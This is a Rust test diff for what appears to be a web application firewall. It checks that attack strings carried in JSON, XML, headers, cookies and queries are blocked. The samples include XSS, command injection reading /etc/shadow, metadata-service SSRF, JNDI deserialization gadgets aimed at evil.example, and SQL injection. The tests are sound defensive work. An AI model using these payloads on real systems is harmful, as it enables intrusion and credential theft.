@@ -264,3 +264,164 @@ fn graphql_and_xml_values_are_judged() {
         out.findings
     );
 }
+
+/// `value` placed in a JSON field, a custom header, a query parameter, a cookie and, escaped,
+/// in the text of an XML body: the inspection of each request.
+fn placed(engine: &Engine, value: &str) -> Vec<(&'static str, portcullis_inspect::Inspection)> {
+    fn pct(s: &str) -> String {
+        s.bytes()
+            .map(|b| {
+                if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
+                    (b as char).to_string()
+                } else {
+                    format!("%{b:02X}")
+                }
+            })
+            .collect()
+    }
+    let json = serde_json::json!({ "order": { "note": value } }).to_string();
+    let xml = format!(
+        "<order><note>{}</note></order>",
+        value
+            .replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;")
+    );
+    let query = format!("q={}", pct(value));
+    let cookie = format!("lang=en; pref={}", pct(value));
+    /// Name, headers, query, body.
+    type Placement<'a> = (
+        &'static str,
+        Vec<(&'a str, &'a [u8])>,
+        Option<&'a str>,
+        &'a [u8],
+    );
+    let cases: Vec<Placement<'_>> = vec![
+        (
+            "json",
+            vec![("content-type", b"application/json")],
+            None,
+            json.as_bytes(),
+        ),
+        (
+            "xml",
+            vec![("content-type", b"application/xml")],
+            None,
+            xml.as_bytes(),
+        ),
+        (
+            "header",
+            vec![("x-client-note", value.as_bytes())],
+            None,
+            b"",
+        ),
+        ("cookie", vec![("cookie", cookie.as_bytes())], None, b""),
+        ("query", vec![], Some(query.as_str()), b""),
+    ];
+    cases
+        .into_iter()
+        .map(|(name, headers, query, body)| {
+            let req = Request {
+                method: if body.is_empty() { "GET" } else { "POST" },
+                path: "/api/v1/items",
+                query,
+                headers: &headers,
+                body,
+            };
+            (name, engine.inspect(&req))
+        })
+        .collect()
+}
+
+#[test]
+fn issue_5_xml_documents_inside_values_are_walked() {
+    // A back end that receives an XML document in a field parses it: what an attribute or
+    // the text holds, entities decoded, is judged on its own, wherever the document sits.
+    let engine = Engine::new(Settings::default());
+    let attacks = [
+        r#"<?xml version="1.0"?><root><a probe="&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=javascript:alert(1)&quot;&gt;"></a></root>"#,
+        r#"<?xml version="1.0"?><root><a probe="&lt;embed src=&quot;//evil.example/x.swf&quot;&gt;"></a></root>"#,
+        r#"<?xml version="1.0" encoding="UTF-8"?><r><a p="/etc/passwd"></a></r>"#,
+        r#"<?xml version="1.0"?><root><a probe=";cat /etc/shadow"></a></root>"#,
+        r#"<?xml version="1.0"?><r><url>http://169.254.169.254/latest/meta-data/</url></r>"#,
+        "<?XML version='1.0'?><r>&lt;img src=x onerror=alert(1)&gt;</r>",
+    ];
+    for a in attacks {
+        for (place, out) in placed(&engine, a) {
+            assert!(out.blocked, "{place}: {a} {:?}", out.findings);
+        }
+    }
+    let legit = [
+        r#"<?xml version="1.0" encoding="UTF-8"?><note lang="en"><to>Tove</to><message>Don't forget me this weekend &amp; bring the &lt;3 mug!</message></note>"#,
+        r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://www.example.com/prices"><m:Item>Apples &amp; pears</m:Item></m:GetPrice></soap:Body></soap:Envelope>"#,
+        r#"<?xml version="1.0"?><invoice id="INV-2041"><line sku="A-17" qty="2">O'Brien &amp; Sons &#8212; 10% off</line><total currency="EUR">18.40</total></invoice>"#,
+        r#"<?xml version="1.0"?><feed><entry><title>Select a plan &amp; drop-down menus</title><url>https://blog.example.com/posts/42?utm_source=rss&amp;id=7</url></entry></feed>"#,
+    ];
+    for l in legit {
+        for (place, out) in placed(&engine, l) {
+            assert!(!out.blocked, "{place}: {l} {:?}", out.findings);
+        }
+    }
+}
+
+#[test]
+fn issue_5_json_documents_inside_values_are_walked() {
+    // JSON in a query parameter, header, cookie or XML text is parsed by the API that takes
+    // it there: its keys and strings are judged on their own, as in a JSON body.
+    let engine = Engine::new(Settings::default());
+    let attacks = [
+        r#"{"test": "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"}"#,
+        r#"{"filter": {"$where": "sleep(5000)"}}"#,
+        r#"{"user": {"__proto__": {"isAdmin": true}}}"#,
+        r#"[{"url": "http://169.254.169.254/latest/meta-data/iam/"}]"#,
+        r#"{"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/x"}"#,
+    ];
+    for a in attacks {
+        for (place, out) in placed(&engine, a) {
+            assert!(out.blocked, "{place}: {a} {:?}", out.findings);
+        }
+    }
+    let legit = [
+        r#"{"filters": {"brand": ["acme", "O'Brien"], "price": {"min": 10, "max": 99}}, "sort": "-popularity"}"#,
+        r#"[0,0,1,24,"-",1920,1080,"en-US",{"tz":"Europe/Berlin"}]"#,
+        r#"{"q": "select a plan", "tags": ["drop-down", "<3"], "page": 2}"#,
+        r#"{"token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl", "redirect": "https://app.example.com/done?x=1"}"#,
+    ];
+    for l in legit {
+        for (place, out) in placed(&engine, l) {
+            assert!(!out.blocked, "{place}: {l} {:?}", out.findings);
+        }
+    }
+}
+
+#[test]
+fn issue_5_cookie_values_are_read_with_plus_as_space() {
+    // PHP (and other back ends that URL-decode cookies) read `+` as a space.
+    let engine = Engine::new(Settings::default());
+    let run = |cookie: &str| {
+        let headers: Vec<(&str, &[u8])> = vec![("cookie", cookie.as_bytes())];
+        let req = Request {
+            method: "GET",
+            path: "/",
+            query: None,
+            headers: &headers,
+            body: b"",
+        };
+        engine.inspect(&req)
+    };
+    for c in [
+        "pref=1'+or+1=1--",
+        "pref=x|+cat+/etc/shadow",
+        "pref=<img+src=x+onerror=alert(1)>",
+    ] {
+        assert!(run(c).blocked, "{c}");
+    }
+    for c in [
+        "pref=a+b+c; theme=dark+mode",
+        "sid=AbC+dEf/gH1+iJk2lM3==; lang=en",
+        "tz=UTC+02:00; q=select+a+plan",
+    ] {
+        let out = run(c);
+        assert!(!out.blocked, "{c}: {:?}", out.findings);
+    }
+}
